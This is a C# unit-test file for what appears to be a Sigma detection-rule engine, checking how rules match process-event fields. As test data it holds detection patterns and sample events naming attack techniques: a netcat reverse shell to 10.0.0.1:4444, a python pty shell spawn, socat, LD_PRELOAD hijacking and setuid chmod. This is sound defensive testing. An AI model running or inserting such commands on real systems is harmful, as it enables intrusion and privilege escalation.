using Detektr.Sigma.Rules;

namespace Detektr.Sigma.Tests.Detection;

public sealed class ValueMatchingTests
{
    [Fact]
    public void Plain_strings_match_the_whole_value_case_insensitively()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                Image: '/usr/bin/Curl'
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/usr/bin/curl")));
        Assert.True(rule.Matches(("Image", "/USR/BIN/CURL")));
        Assert.False(rule.Matches(("Image", "/usr/bin/curl2")));
        Assert.False(rule.Matches(("Image", "x/usr/bin/curl")));
        Assert.False(rule.Matches(("CommandLine", "/usr/bin/curl")));
    }

    [Fact]
    public void Star_matches_any_run_and_question_mark_exactly_one_character()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine: 'python? -c *import pty*'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'")));
        Assert.True(rule.Matches(("CommandLine", "PYTHON2 -c import pty")));
        Assert.False(rule.Matches(("CommandLine", "python -c import pty")));
        Assert.False(rule.Matches(("CommandLine", "python3.11 -c import pty")));
    }

    [Fact]
    public void Escaped_wildcards_are_plain_characters_and_lone_backslashes_stay()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine: 'echo \*\? C:\temp\\*'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", @"echo *? C:\temp\anything")));
        Assert.True(rule.Matches(("CommandLine", @"echo *? C:\temp\")));
        Assert.False(rule.Matches(("CommandLine", @"echo ab C:\temp\anything")));
        Assert.False(rule.Matches(("CommandLine", @"echo *? C:temp\x")));
    }

    [Fact]
    public void A_map_requires_every_field_and_a_value_list_any_value()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                Image|endswith:
                    - '/curl'
                    - '/wget'
                User: root
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/usr/bin/wget"), ("User", "root")));
        Assert.True(rule.Matches(("Image", "/usr/bin/curl"), ("User", "ROOT")));
        Assert.False(rule.Matches(("Image", "/usr/bin/curl"), ("User", "alice")));
        Assert.False(rule.Matches(("Image", "/usr/bin/nc"), ("User", "root")));
    }

    [Fact]
    public void A_list_of_maps_matches_when_any_map_matches()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                - Image|endswith: '/nc'
                  CommandLine|contains: ' -e '
                - Image|endswith: '/socat'
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/bin/nc"), ("CommandLine", "nc -e /bin/sh 10.0.0.1 4444")));
        Assert.True(rule.Matches(("Image", "/usr/bin/socat")));
        Assert.False(rule.Matches(("Image", "/bin/nc"), ("CommandLine", "nc -l 8080")));
    }

    [Fact]
    public void Null_matches_an_absent_or_null_field_but_not_an_empty_one()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                ParentImage: null
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/bin/sh")));
        Assert.True(rule.Matches(("ParentImage", null)));
        Assert.False(rule.Matches(("ParentImage", "")));
        Assert.False(rule.Matches(("ParentImage", "/bin/bash")));
    }

    [Fact]
    public void An_empty_string_matches_only_a_present_empty_field()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine: ''
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "")));
        Assert.False(rule.Matches(("Image", "/bin/sh")));
        Assert.False(rule.Matches(("CommandLine", " ")));
    }

    [Fact]
    public void Numbers_match_numeric_fields_and_numeric_text_by_value()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                ProcessId: 4444
            condition: selection
            """);

        Assert.True(rule.Matches(("ProcessId", 4444)));
        Assert.True(rule.Matches(("ProcessId", "4444")));
        Assert.True(rule.Matches(("ProcessId", 4444.0)));
        Assert.False(rule.Matches(("ProcessId", 4445)));
        Assert.False(rule.Matches(("ProcessId", "4444x")));
    }

    [Fact]
    public void Quoted_numbers_are_strings_matched_against_the_field_text()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                ProcessId|startswith: '44'
            condition: selection
            """);

        Assert.True(rule.Matches(("ProcessId", 4412)));
        Assert.False(rule.Matches(("ProcessId", 1444)));
    }

    [Fact]
    public void Booleans_match_boolean_fields_and_true_or_false_text()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                Initiated: true
            condition: selection
            """, "network_connection");

        Assert.True(rule.Matches(Rules.Event("network_connection", ("Initiated", true))));
        Assert.True(rule.Matches(Rules.Event("network_connection", ("Initiated", "True"))));
        Assert.False(rule.Matches(Rules.Event("network_connection", ("Initiated", false))));
        Assert.False(rule.Matches(Rules.Event("network_connection", ("Initiated", "yes"))));
    }

    [Fact]
    public void A_value_matches_a_list_field_when_it_matches_one_item()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                QueryResults|contains: '10.66.'
            condition: selection
            """, "dns_query");

        Assert.True(rule.Matches(Rules.Event("dns_query", ("QueryResults", new[] { "192.0.2.1", "10.66.0.1" }))));
        Assert.False(rule.Matches(Rules.Event("dns_query", ("QueryResults", new[] { "192.0.2.1" }))));
        Assert.False(rule.Matches(Rules.Event("dns_query", ("QueryResults", Array.Empty<string>()))));
    }

    [Fact]
    public void Keywords_are_searched_in_every_field_value()
    {
        SigmaRule rule = Rules.Load("""
            keywords:
                - 'LD_PRELOAD='
                - 'ld.so.preload'
            condition: keywords
            """);

        Assert.True(rule.Matches(("CommandLine", "env LD_PRELOAD=/tmp/x.so ls")));
        Assert.True(rule.Matches(("Image", "/bin/cat"), ("CurrentDirectory", "/etc/LD.SO.PRELOAD.d")));
        Assert.False(rule.Matches(("CommandLine", "ls /etc")));
    }

    [Fact]
    public void Keywords_with_all_need_every_value_somewhere_in_the_event()
    {
        SigmaRule rule = Rules.Load("""
            keywords:
                '|all':
                    - 'chmod'
                    - '+s'
            condition: keywords
            """);

        Assert.True(rule.Matches(("Image", "/bin/chmod"), ("CommandLine", "chmod u+s /tmp/sh")));
        Assert.False(rule.Matches(("Image", "/bin/chmod"), ("CommandLine", "chmod 755 /tmp/sh")));
    }

    [Fact]
    public void Keyword_wildcards_apply_inside_a_value_and_numbers_are_searched_by_text()
    {
        SigmaRule rule = Rules.Load("""
            keywords:
                - 'nc*-e'
                - 31337
            condition: keywords
            """);

        Assert.True(rule.Matches(("CommandLine", "/bin/nc 10.0.0.1 -e sh")));
        Assert.True(rule.Matches(("DestinationPort", 31337)));
        Assert.False(rule.Matches(("CommandLine", "-e nc")));
    }
}
